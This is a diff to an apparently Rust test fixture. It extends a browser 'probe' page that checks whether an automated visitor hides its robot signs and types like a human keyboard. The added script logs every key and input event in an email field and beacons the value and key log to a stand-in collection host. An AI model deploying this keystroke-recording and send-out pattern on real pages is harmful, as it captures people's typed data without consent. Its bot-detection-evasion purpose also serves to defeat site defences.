@@ -81,8 +81,29 @@ var s=document.createElement('script');s.src='/cdn-cgi/challenge-platform/h/g/or
 
 /// A page that reports what it sees of the browser (`navigator.webdriver`, the User-Agent and
 /// its client-hint brands, languages, window size) to the test web, so a test can check that
-/// the visitor does not announce itself as a robot.
-pub const PROBE: &str = r#"<script>
+/// the visitor does not announce itself as a robot; and every key and input event of its one
+/// field, as a keystroke recorder sees them (type, key, code, key code, Shift, trusted), sent
+/// with the field's value when it changes, so a test can check the visitor types as a
+/// keyboard does.
+pub const PROBE: &str = r#"<form id="probe" action="/never-submit?form=probe" method="post">
+<label>Email <input type="email" name="email" id="probe-email"></label></form>
+<script>
+(function () {
+  var log = [];
+  ['keydown', 'keypress', 'beforeinput', 'input', 'keyup'].forEach(function (t) {
+    document.addEventListener(t, function (e) {
+      if (log.length >= 600) return;
+      log.push(e.type.indexOf('input') >= 0
+        ? [e.type, e.inputType, e.data, e.isTrusted]
+        : [e.type, e.key, e.code, e.keyCode, e.shiftKey, e.isTrusted]);
+    }, true);
+  });
+  document.addEventListener('change', function (e) {
+    navigator.sendBeacon('https://collect.recorder-demo.test/v1/probe-keys', JSON.stringify({ value: e.target.value, log: log }));
+  }, true);
+})();
+</script>
+<script>
 (function () {
   var d = navigator.userAgentData;
   var facts = {
